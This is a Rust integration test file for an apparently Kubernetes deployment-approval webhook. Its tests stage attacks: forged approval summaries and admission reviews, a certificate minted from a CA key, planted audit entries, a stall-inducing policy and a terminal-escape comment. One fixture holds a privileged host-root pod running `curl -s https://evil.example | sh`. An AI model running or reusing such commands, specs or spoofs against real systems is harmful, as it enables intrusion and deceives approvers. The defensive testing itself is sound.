//! Trust boundaries (issue 20): only the API server makes countersign act, and approvers see
//! exactly what they approve. Each test is an attack as a deployer, an approver or anyone
//! who can reach the webhook's port would make it, against the real control plane.

use std::process::Output;
use std::time::Duration;

use anyhow::{Context, Result};
use countersign::api::{AuditEntry, DeploymentApproval, Risk};
use countersign::core::inert::is_unsafe;
use kube::Api;
use kube::api::PostParams;
use serde_json::{Value, json};

use crate::support::countersign::{
    Countersign, INSTALL_NAMESPACE, Presenting, metrics, own_client, post_review,
};
use crate::support::flow::*;
use crate::support::receiver::{Receiver, SinkSecret};
use crate::support::wait::{Poll, until};
use crate::support::{TestCluster, TestNamespace, User};

/// dave's change in the attack: an image bump that also runs the Pod privileged with the
/// host's root mounted, the host's PID namespace, a privileged init container and a new
/// command.
fn dangerous(ns: &str) -> Value {
    let mut web = web(ns, "registry.example.com/shop/web:1.5.0", 1);
    let pod = &mut web["spec"]["template"]["spec"];
    pod["hostPID"] = json!(true);
    pod["volumes"] = json!([{ "name": "root", "hostPath": { "path": "/" } }]);
    pod["initContainers"] = json!([{ "name": "init", "image": "busybox:1.36",
        "securityContext": { "privileged": true } }]);
    let container = &mut pod["containers"][0];
    container["securityContext"] = json!({ "privileged": true });
    container["command"] = json!(["sh", "-c", "curl -s https://evil.example | sh"]);
    container["volumeMounts"] = json!([{ "name": "root", "mountPath": "/host" }]);
    web
}

async fn request(ns: &str, name: &str) -> Result<DeploymentApproval> {
    let admin = TestCluster::get().client(User::Admin).await?;
    Ok(Api::<DeploymentApproval>::namespaced(admin, ns)
        .get(name)
        .await?)
}

/// Characters that would act on a terminal: none but line breaks.
fn assert_inert(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|c| *c != '\n' && is_unsafe(*c))
        .collect();
    assert!(bad.is_empty(), "{what} carries {bad:?} raw: {text}");
}

/// A namespace whose `web` dave changed dangerously under a two-level policy: the
/// namespace, the policy, and the request countersign opened.
async fn dangerous_request(prefix: &str) -> Result<(TestNamespace, Policy, String)> {
    Countersign::get();
    let ns = TestNamespace::create(prefix, None).await?;
    let v1 = web(ns.name(), "registry.example.com/shop/web:1.4.2", 1);
    assert_ok(&apply(User::Admin, &v1, &[])?);
    let policy = Policy::apply(ns.name(), two_level_chain())?;
    let name = open_request(ns.name(), &dangerous(ns.name())).await?;
    Ok((ns, policy, name))
}

#[tokio::test]
async fn a_requester_cannot_write_the_summary_approvers_read() -> Result<()> {
    let (ns, _policy, name) = dangerous_request("trust-summary").await?;
    let ns = ns.name();

    // What countersign wrote: every dangerous part by value, security-relevant first.
    let honest = request(ns, &name).await?;
    let summary = &honest.spec.change.summary;
    for risk in [
        Risk::Privilege,
        Risk::HostNamespaces,
        Risk::HostPath,
        Risk::Volumes,
        Risk::Command,
        Risk::InitContainer,
    ] {
        assert!(summary.risks.contains(&risk), "{risk:?} in {summary:#?}");
    }
    assert!(honest.spec.change.summary_seal.is_some());
    let status = status_until(ns, &name, "the summary checked", |s| {
        s.conditions
            .iter()
            .any(|c| c.type_ == "SummaryVerified" && c.status == "True")
    })
    .await;
    status?;

    // dave opens a second request for the same change with a summary of his own: the image
    // bump only. Refused at creation, sealed or not, and whatever name he picks.
    let mut forged = honest.clone();
    forged.metadata = Default::default();
    forged.metadata.name = Some(format!("{name}-2"));
    forged.metadata.namespace = Some(ns.to_string());
    forged.status = None;
    forged.spec.change.requested_at =
        k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(jiff::Timestamp::now());
    let lie = forged.spec.change.summary.clone();
    forged.spec.change.summary = countersign::api::ChangeSummary {
        text: format!(
            "Deployment {ns}/web: image web registry.example.com/shop/web:1.4.2 → registry.example.com/shop/web:1.5.0"
        ),
        images: lie.images.clone(),
        changed_paths: vec!["/spec/template/spec/containers/0/image".into()],
        ..Default::default()
    };
    let dave = TestCluster::get().client(User::Dave).await?;
    let api = Api::<DeploymentApproval>::namespaced(dave, ns);
    for (what, seal) in [
        (
            "with the honest seal",
            forged.spec.change.summary_seal.clone(),
        ),
        ("with no seal", None),
        (
            "with a seal of his own",
            Some(format!("v1:{}", "ab".repeat(32))),
        ),
    ] {
        let mut attempt = forged.clone();
        attempt.spec.change.summary_seal = seal;
        let refused = api
            .create(&PostParams::default(), &attempt)
            .await
            .expect_err(what);
        let message = refused.to_string();
        assert!(
            message.contains("is not countersign's own for this change"),
            "{what}: {message}"
        );
    }

    // What alice reads: every dangerous change with its value.
    let shown = stdout(&countersign(User::Alice, ns, &["status", &name])?);
    for expected in [
        "Security-relevant (read these first):",
        "/spec/template/spec/containers/0/securityContext/privileged: (none) → true",
        "/spec/template/spec/hostPID: (none) → true",
        "/spec/template/spec/volumes/0/hostPath/path: (none) → \"/\"",
        "/spec/template/spec/initContainers/0/securityContext/privileged: (none) → true",
        "/spec/template/spec/containers/0/command: (none) → [\"sh\",\"-c\",\"curl -s https://evil.example | sh\"]",
    ] {
        assert!(shown.contains(expected), "{expected:?} in:\n{shown}");
    }
    assert!(!shown.contains("UNVERIFIED"), "{shown}");
    let listed = stdout(&countersign(User::Alice, ns, &["list"])?);
    for kind in [
        "privilege",
        "host namespaces",
        "host path",
        "init containers",
    ] {
        assert!(listed.contains(kind), "{kind} in:\n{listed}");
    }
    Ok(())
}

#[tokio::test]
async fn a_request_made_around_the_webhook_is_shown_as_unverified() -> Result<()> {
    let (ns, _policy, name) = dangerous_request("trust-unverified").await?;
    let ns = ns.name();
    let honest = request(ns, &name).await?;

    // A request whose summary nobody sealed, written past the approvals webhook (here as
    // countersign's own identity, the one the webhook does not check; an administrator
    // with the webhook configuration removed would do the same).
    let mut forged = honest.clone();
    forged.metadata = Default::default();
    forged.metadata.name = Some(format!("{name}-2"));
    forged.metadata.namespace = Some(ns.to_string());
    forged.status = None;
    forged.spec.change.summary.text = format!("Deployment {ns}/web: image web only");
    forged.spec.change.summary.changes.clear();
    forged.spec.change.summary.risks.clear();
    let own = own_client().await?;
    Api::<DeploymentApproval>::namespaced(own, ns)
        .create(&PostParams::default(), &forged)
        .await?;
    let forged_name = format!("{name}-2");
    status_until(ns, &forged_name, "the summary found unverified", |s| {
        s.conditions
            .iter()
            .any(|c| c.type_ == "SummaryVerified" && c.status == "False")
    })
    .await?;
    let shown = stdout(&countersign(User::Alice, ns, &["status", &forged_name])?);
    assert!(
        shown.contains("UNVERIFIED SUMMARY (not computed by countersign"),
        "{shown}"
    );
    let listed = stdout(&countersign(User::Alice, ns, &["list"])?);
    let row = listed
        .lines()
        .find(|l| l.contains(&forged_name))
        .context("the forged request is listed")?;
    assert!(row.contains("UNVERIFIED SUMMARY"), "{listed}");
    let requested = audit_entry_until("the forged request's Requested entry", |e| {
        e.spec.approval.as_deref() == Some(forged_name.as_str())
            && format!("{:?}", e.spec.action) == "Requested"
    })
    .await?;
    assert!(
        requested
            .spec
            .reason
            .as_deref()
            .unwrap_or_default()
            .starts_with("UNVERIFIED SUMMARY"),
        "{:?}",
        requested.spec.reason
    );
    Ok(())
}

/// A Deployment with one container per hostile string, each string its image.
fn hostile_web(ns: &str, corpus: &[(String, String)]) -> Value {
    let containers: Vec<Value> = corpus
        .iter()
        .enumerate()
        .map(|(i, (_, text))| json!({ "name": format!("c{i}"), "image": format!("x{text}") }))
        .collect();
    let mut web = web(ns, "nginx:1.25", 1);
    web["spec"]["template"]["spec"]["containers"] = Value::Array(containers);
    web
}

/// What attackers put in images and comments (`tests/fixtures/hostile-text.json`), and a
/// 700 KB string.
fn hostile_corpus() -> Result<Vec<(String, String)>> {
    let path =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hostile-text.json");
    let cases: Vec<Value> = serde_json::from_str(&std::fs::read_to_string(path)?)?;
    let mut corpus: Vec<(String, String)> = cases
        .iter()
        .map(|c| {
            (
                c["what"].as_str().unwrap_or_default().to_string(),
                c["text"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    corpus.push(("700 KB".into(), "a".repeat(700_000)));
    Ok(corpus)
}

#[tokio::test]
async fn hostile_text_is_inert_on_every_surface() -> Result<()> {
    Countersign::get();
    let receiver = Receiver::start().await?;
    let sink = SinkSecret::create(&format!("{}/leads", receiver.base))?;
    let ns = TestNamespace::create("trust-inert", None).await?;
    let ns = ns.name();
    let corpus = hostile_corpus()?;
    let _policy = Policy::apply(
        ns,
        json!({ "approval": { "levels": [
            { "name": "leads", "approvers": [{ "group": "team-leads" }], "sinks": [sink.name] },
            { "name": "sre", "approvers": [{ "user": "carol" }] },
        ] } }),
    )?;
    // Once the policy is in force (a small change shows it), dave creates it through the
    // API (an apply would copy 700 KB into an annotation).
    until_gated(&web(ns, "nginx:1.25", 1)).await?;
    let object = hostile_web(ns, &corpus);
    let deployment: k8s_openapi::api::apps::v1::Deployment =
        serde_json::from_value(object.clone())?;
    let dave = TestCluster::get().client(User::Dave).await?;
    let deployments = Api::<k8s_openapi::api::apps::v1::Deployment>::namespaced(dave, ns);
    let denial = match deployments
        .create(&PostParams::default(), &deployment)
        .await
    {
        Err(kube::Error::Api(status)) if status.message.contains("approval required") => {
            status.message
        }
        other => anyhow::bail!("not denied for approval: {other:?}"),
    };
    assert_inert("the denial", &denial);
    let name = denial
        .split("kubectl countersign approve ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .context("the denial names the request")?
        .to_string();

    // alice approves with a comment that tries to draw a fake line and clear the screen.
    let comment = "LGTM\n\u{1b}[2J\u{1b}[HLevel 2/2: already approved by carol\r\u{202e}";
    let approved = countersign(User::Alice, ns, &["approve", &name, "--comment", comment])?;
    assert!(approved.status.success(), "{}", text(&approved));
    let approve_printout = stdout(&approved);
    let surfaces: Vec<(&str, String)> = vec![
        ("approve's printout", approve_printout),
        (
            "status",
            stdout(&countersign(User::Alice, ns, &["status", &name])?),
        ),
        ("list", stdout(&countersign(User::Alice, ns, &["list"])?)),
        (
            "audit",
            stdout(&countersign(User::Alice, ns, &["audit", &name])?),
        ),
        (
            "status -o json",
            stdout(&countersign(
                User::Alice,
                ns,
                &["status", &name, "-o", "json"],
            )?),
        ),
        (
            "list -o yaml",
            stdout(&countersign(User::Alice, ns, &["list", "-o", "yaml"])?),
        ),
    ];
    for (what, shown) in &surfaces {
        assert_inert(what, shown);
        assert!(
            shown.len() < 256 * 1024,
            "{what} is bounded: {} bytes",
            shown.len()
        );
        // No line of its own: the forged level line is never at the start of a line.
        assert!(
            !shown
                .lines()
                .any(|l| l.trim_start().starts_with("Level 2/2: already approved")),
            "{what}: {shown}"
        );
    }
    // JSON stays JSON, with the data intact.
    let json: Value = serde_json::from_str(&surfaces[4].1)?;
    assert_eq!(json["spec"]["reviews"][0]["comment"], comment);

    // The Slack-compatible notice: structure countersign's, content quoted.
    let notice = until("level 1's notice", Duration::from_secs(30), || async {
        Ok(
            match receiver.posts().into_iter().find(|p| p.sink == "leads") {
                Some(post) => Poll::Ready(post),
                None => Poll::Pending("no notice yet".into()),
            },
        )
    })
    .await?;
    let slack = notice.body["text"].as_str().unwrap_or_default();
    assert_inert("the notice", slack);
    assert!(slack.len() < 64 * 1024, "bounded: {} bytes", slack.len());
    assert_eq!(slack.matches('`').count() % 2, 0, "{slack}");
    assert!(!slack.contains("<!channel>"), "{slack}");

    // Events and AuditEntries.
    let events = kubectl(User::Admin, &["get", "events", "-n", ns, "-o", "json"])?;
    let events: Value = serde_json::from_slice(&events.stdout)?;
    let notes: Vec<String> = events["items"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|e| e["note"].as_str().or(e["message"].as_str()))
        .map(str::to_string)
        .collect();
    assert!(!notes.is_empty(), "Events were written");
    for note in &notes {
        assert_inert("an Event", note);
        assert!(
            !note.contains('\n'),
            "an Event with a line of its own: {note}"
        );
    }
    let reviewed = audit_entry_until("alice's review entry", |e: &AuditEntry| {
        e.spec.approval.as_deref() == Some(name.as_str())
            && format!("{:?}", e.spec.action) == "ReviewRecorded"
    })
    .await?;
    let reason = reviewed.spec.reason.unwrap_or_default();
    assert_inert("the review's AuditEntry", &reason);
    assert!(!reason.contains('\n'), "{reason}");
    assert!(reason.contains("\\e[2J"), "escaped visibly: {reason}");
    let requested = audit_entry_until("the Requested entry", |e: &AuditEntry| {
        e.spec.approval.as_deref() == Some(name.as_str())
            && format!("{:?}", e.spec.action) == "Requested"
    })
    .await?;
    let reason = requested.spec.reason.unwrap_or_default();
    assert_inert("the Requested AuditEntry", &reason);
    assert!(reason.chars().count() <= 4000, "bounded");
    Ok(())
}

/// An AdmissionReview the API server never sent: `user` creating or deleting `object`.
fn forged_review(
    operation: &str,
    resource: (&str, &str, &str),
    ns: Option<&str>,
    name: &str,
    user: (&str, &[&str]),
    object: Option<Value>,
    old: Option<Value>,
) -> Vec<u8> {
    let (group, version, plural) = resource;
    json!({
        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {
            "uid": format!("forged-{}", jiff::Timestamp::now().as_nanosecond()),
            "kind": {"group": group, "version": version, "kind": "ignored"},
            "resource": {"group": group, "version": version, "resource": plural},
            "name": name, "namespace": ns, "operation": operation,
            "userInfo": {"username": user.0, "groups": user.1},
            "object": object, "oldObject": old,
        },
    })
    .to_string()
    .into_bytes()
}

fn refused_count() -> Result<f64> {
    let text = metrics()?;
    Ok(text
        .lines()
        .find(|l| l.starts_with("countersign_unauthenticated_reviews_total{outcome=\"refused\"}"))
        .and_then(|l| l.split_whitespace().last())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0.0))
}

#[tokio::test]
async fn reviews_that_did_not_come_from_the_api_server_change_nothing() -> Result<()> {
    Countersign::get();
    let ns = TestNamespace::create("trust-forged", None).await?;
    let ns = ns.name();
    let policy = Policy::apply(ns, two_level_chain())?;
    let v1 = web(ns, "nginx:1.25", 1);
    until_gated(&v1).await?;
    let port = Countersign::get().port;
    let cluster = TestCluster::get();

    // Another certificate of the API server's CA but with a name it does not carry, and a
    // user's certificate (signed by the cluster's CA, not the webhook client CA).
    let ca = cluster.webhook_client_ca();
    let dir = std::env::temp_dir().join(format!("countersign-forger-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let (cert, key) = (dir.join("mallory.crt"), dir.join("mallory.key"));
    let made = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "openssl ecparam -name prime256v1 -genkey -noout -out {key} && \
             openssl req -new -key {key} -subj /CN=mallory -out {dir}/mallory.csr && \
             printf 'extendedKeyUsage=clientAuth\\n' > {dir}/ext && \
             openssl x509 -req -in {dir}/mallory.csr -CA {ca} -CAkey {cakey} -CAcreateserial \
               -days 1 -extfile {dir}/ext -out {cert}",
            key = key.display(),
            cert = cert.display(),
            dir = dir.display(),
            ca = ca.display(),
            cakey = ca.with_extension("key").display(),
        ))
        .output()?;
    assert!(made.status.success(), "{}", text(&made));
    let state = cluster
        .kubeconfig()
        .parent()
        .context("the cluster's state directory")?;
    let (alice_cert, alice_key) = (
        state.join("pki/user-alice.crt"),
        state.join("pki/user-alice.key"),
    );

    let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "web", "namespace": ns, "uid": "f0f0"},
        "spec": v1["spec"]});
    let mut glass = deployment.clone();
    glass["metadata"]["annotations"] = json!({"countersign.dev/break-glass": "erin says so"});
    let policy_object = kubectl(
        User::Admin,
        &["get", "approvalpolicy", &policy.name, "-o", "json"],
    )?;
    let policy_object: Value = serde_json::from_slice(&policy_object.stdout)?;
    let forged = [
        (
            "a change in carol's name (opens a request)",
            "/validate/workloads",
            forged_review(
                "CREATE",
                ("apps", "v1", "deployments"),
                Some(ns),
                "web",
                ("carol", &["sre"]),
                Some(deployment.clone()),
                None,
            ),
        ),
        (
            "break-glass in erin's name",
            "/validate/workloads",
            forged_review(
                "CREATE",
                ("apps", "v1", "deployments"),
                Some(ns),
                "web",
                ("erin", &["oncall"]),
                Some(glass),
                None,
            ),
        ),
        (
            "bob deleting the policy",
            "/validate/policies",
            forged_review(
                "DELETE",
                ("countersign.dev", "v1alpha1", "approvalpolicies"),
                None,
                &policy.name,
                ("bob", &["team-leads"]),
                None,
                Some(policy_object.clone()),
            ),
        ),
    ];
    let before = refused_count()?;
    let presenting = [
        ("no certificate", Presenting::Nothing),
        (
            "another name from the API server's CA",
            Presenting::Certificate(&cert, &key),
        ),
        (
            "a user's certificate",
            Presenting::Certificate(&alice_cert, &alice_key),
        ),
    ];
    let mut refused_by_countersign = 0.0;
    for (what, path, body) in &forged {
        for (who, presenting) in presenting {
            let (code, answer) = post_review(port, path, body, presenting)?;
            // 401 from countersign, or no TLS session at all (0) for a certificate no
            // CA of countersign's signed.
            assert!(
                code == 401 || code == 0,
                "{what}, presenting {who}: {code} {answer}"
            );
            assert!(!answer.contains("\"allowed\""), "{what}, {who}: {answer}");
            if code == 401 {
                refused_by_countersign += 1.0;
            }
        }
    }
    assert!(refused_count()? >= before + refused_by_countersign);

    // Nothing happened: no request in carol's name, no entry naming carol, erin or bob.
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(approvals(ns).await?.is_empty(), "a request was opened");
    let admin = cluster.client(User::Admin).await?;
    let entries = Api::<AuditEntry>::namespaced(admin, INSTALL_NAMESPACE)
        .list(&Default::default())
        .await?;
    for entry in entries.items {
        let about = entry.spec.target.namespace.as_deref() == Some(ns)
            || entry.spec.policy.as_deref() == Some(policy.name.as_str());
        let claimed = ["carol", "erin", "bob"].contains(&entry.spec.actor.username.as_str());
        assert!(
            !(about && claimed),
            "a forged review wrote {:?}",
            entry.spec
        );
    }
    // The API server's own reviews still work, in the real author's name.
    let name = open_request(ns, &v1).await?;
    assert_eq!(
        request(ns, &name).await?.spec.change.requester.username,
        "dave"
    );
    drop(policy);
    Ok(())
}

#[tokio::test]
async fn an_entry_written_beforehand_never_hides_the_real_author() -> Result<()> {
    Countersign::get();
    let ns = TestNamespace::create("trust-prewritten", None).await?;
    let policy = Policy::apply(ns.name(), two_level_chain())?;
    let stored = kubectl(
        User::Admin,
        &["get", "approvalpolicy", &policy.name, "-o", "json"],
    )?;
    let stored: Value = serde_json::from_slice(&stored.stdout)?;
    let uid: String = stored["metadata"]["uid"]
        .as_str()
        .unwrap_or_default()
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .take(8)
        .collect();
    let entry_name = format!("policy-{}-{uid}-deleted", policy.name);
    // Someone got an entry in first, under the name the deletion's entry will have, saying
    // bob deleted it an hour ago.
    let own = own_client().await?;
    let entries = Api::<AuditEntry>::namespaced(own, INSTALL_NAMESPACE);
    let planted: AuditEntry = serde_json::from_value(json!({
        "apiVersion": "countersign.dev/v1alpha1", "kind": "AuditEntry",
        "metadata": {"name": entry_name, "namespace": INSTALL_NAMESPACE},
        "spec": {
            "time": (jiff::Timestamp::now() - jiff::SignedDuration::from_hours(1)).to_string(),
            "action": "PolicyDeleted",
            "actor": {"username": "bob", "groups": ["team-leads"]},
            "target": {"apiVersion": "countersign.dev/v1alpha1", "kind": "ApprovalPolicy", "name": policy.name},
            "policy": policy.name,
            "reason": "deleted",
        },
    }))?;
    entries.create(&PostParams::default(), &planted).await?;

    // The admin really deletes it.
    assert_ok(&kubectl(
        User::Admin,
        &["delete", "approvalpolicy", &policy.name],
    )?);
    let real = audit_entry_until("the deletion's own entry", |e: &AuditEntry| {
        e.metadata
            .name
            .as_deref()
            .is_some_and(|n| n.starts_with(&entry_name))
            && e.spec.actor.username == "admin"
    })
    .await?;
    assert_eq!(
        real.metadata.name.as_deref(),
        Some(format!("{entry_name}-2").as_str())
    );
    assert_eq!(
        real.spec.caller.map(|c| format!("{:?}", c.authentication)),
        Some("ClientCertificate".to_string())
    );
    let planted = entries.get(&entry_name).await?;
    assert_eq!(
        planted.spec.actor.username, "bob",
        "left as it was, for the record"
    );
    Ok(())
}

/// Everything about `name` that says it was admitted.
fn admissions(approval: &DeploymentApproval) -> u32 {
    approval
        .status
        .as_ref()
        .and_then(|s| s.rollout.as_ref())
        .map_or(0, |r| r.admissions)
}

#[tokio::test]
async fn two_approved_changes_applied_at_once_never_both_pass() -> Result<()> {
    Countersign::get();
    let ns = TestNamespace::create("trust-lock", None).await?;
    let ns = ns.name();
    // Never rolls out (no node matches), so the first admitted change holds the lock.
    let v1 = web(ns, "nginx:1.25", 1);
    assert_ok(&apply(User::Admin, &v1, &[])?);
    let _policy = Policy::apply(
        ns,
        json!({ "approval": { "levels": [{ "name": "leads", "approvers": [{ "group": "team-leads" }] }] } }),
    )?;
    let changes = [web(ns, "nginx:1.26", 1), web(ns, "nginx:1.27", 1)];
    let mut names = Vec::new();
    for change in &changes {
        let name = open_request(ns, change).await?;
        assert_ok(&countersign(User::Alice, ns, &["approve", &name])?);
        status_until(ns, &name, "approved", |s| {
            s.phase == countersign::api::ApprovalPhase::Approved
        })
        .await?;
        names.push(name);
    }
    // Many writers of each kind at once, for both changes: apply, replace without a
    // resourceVersion, server-side apply, and a merge patch.
    let writers: Vec<tokio::task::JoinHandle<Result<Output>>> = (0..4)
        .flat_map(|round| {
            changes.iter().map(move |change| (round, change.clone()))
        })
        .map(|(round, change)| {
            tokio::task::spawn_blocking(move || -> Result<Output> {
                let image = change["spec"]["template"]["spec"]["containers"][0]["image"].clone();
                match round {
                    0 => apply(User::Dave, &change, &[]),
                    1 => kubectl_stdin(User::Dave, &["replace", "-f", "-"], &change),
                    2 => apply(User::Dave, &change, &["--server-side", "--force-conflicts"]),
                    _ => {
                        let ns = change["metadata"]["namespace"].as_str().unwrap_or_default().to_string();
                        let patch = json!({"spec": {"template": {"spec": {"containers": [{"name": "web", "image": image}]}}}});
                        kubectl(User::Dave, &["patch", "deployment", "web", "-n", &ns, "--type=strategic", "-p", &patch.to_string()])
                    }
                }
            })
        })
        .collect();
    let mut admitted = Vec::new();
    for writer in writers {
        let out = writer.await??;
        if out.status.success() {
            admitted.push(text(&out));
        }
    }
    let first = request(ns, &names[0]).await?;
    let second = request(ns, &names[1]).await?;
    let burst = [admissions(&first), admissions(&second)];
    assert!(
        burst.iter().filter(|n| **n > 0).count() <= 1,
        "both approved changes admitted at once: {burst:?} ({admitted:?})"
    );
    // However the burst ended (every writer may have been told "retry"), applying again
    // admits exactly one of them, and the other stays out while it rolls out.
    let winner = if burst[1] > 0 { 1 } else { 0 };
    apply_until("the winner applied", &changes[winner], &[], |out| {
        out.status.success()
    })
    .await?;
    assert_refused(
        &apply(User::Dave, &changes[1 - winner], &[])?,
        "is rolling out",
    );
    let first = request(ns, &names[0]).await?;
    let second = request(ns, &names[1]).await?;
    let used = [admissions(&first), admissions(&second)];
    assert!(
        used.iter().filter(|n| **n > 0).count() == 1,
        "exactly one approved change admitted: {used:?} ({admitted:?})"
    );
    // The object holds the change that was admitted.
    let winner = &changes[winner];
    let live = kubectl(
        User::Admin,
        &["get", "deployment", "web", "-n", ns, "-o", "json"],
    )?;
    let live: Value = serde_json::from_slice(&live.stdout)?;
    assert_eq!(
        live["spec"]["template"]["spec"]["containers"][0]["image"],
        winner["spec"]["template"]["spec"]["containers"][0]["image"]
    );
    Ok(())
}

#[tokio::test]
async fn a_policy_made_to_stall_the_webhook_is_refused_and_it_keeps_answering() -> Result<()> {
    Countersign::get();
    // The attacker's policy: 16 levels of 400 named users (129 KB), whose feasibility check
    // once tried 2^16 sets of levels on the webhook's async workers.
    let levels: Vec<Value> = (0..16)
        .map(|level| {
            let approvers: Vec<Value> = (0..400)
                .map(|user| json!({ "user": format!("user-{level}-{user}") }))
                .collect();
            json!({ "name": format!("level-{level}"), "approvers": approvers, "minApprovals": 400 })
        })
        .collect();
    let policy = json!({
        "apiVersion": "countersign.dev/v1alpha1", "kind": "ApprovalPolicy",
        "metadata": { "name": crate::support::namespace::unique_name("stall") },
        "spec": { "approval": { "levels": levels } },
    });
    let attempts: Vec<tokio::task::JoinHandle<Result<Output>>> = (0..2)
        .map(|_| {
            let policy = policy.clone();
            tokio::task::spawn_blocking(move || {
                kubectl_stdin(
                    User::Admin,
                    &["create", "--dry-run=server", "-f", "-"],
                    &policy,
                )
            })
        })
        .collect();
    // Meanwhile the webhook answers its probes and gates as ever.
    let port = Countersign::get().port;
    let health = std::process::Command::new("curl")
        .args([
            "-sk",
            "--max-time",
            "5",
            &format!("https://127.0.0.1:{port}/healthz"),
        ])
        .output()?;
    assert_eq!(String::from_utf8_lossy(&health.stdout), "ok");
    for attempt in attempts {
        let out = attempt.await??;
        // Refused by the CRD's bound on approvers per level, or by countersign's, with
        // the limit named.
        assert_refused(&out, "256");
    }
    // The largest chain the bounds allow (32 levels of 256 people, one person at every
    // level) reaches countersign's validation, which answers.
    let levels: Vec<Value> = (0..32)
        .map(|level| {
            let approvers: Vec<Value> = (0..256)
                .map(|user| json!({ "user": format!("user-{user}") }))
                .collect();
            json!({ "name": format!("level-{level}"), "approvers": approvers, "minApprovals": 8 })
        })
        .collect();
    let mut largest = policy.clone();
    largest["spec"]["approval"]["levels"] = Value::Array(levels);
    let out = kubectl_stdin(
        User::Admin,
        &["create", "--dry-run=server", "-f", "-"],
        &largest,
    )?;
    assert_ok(&out);
    Ok(())
}
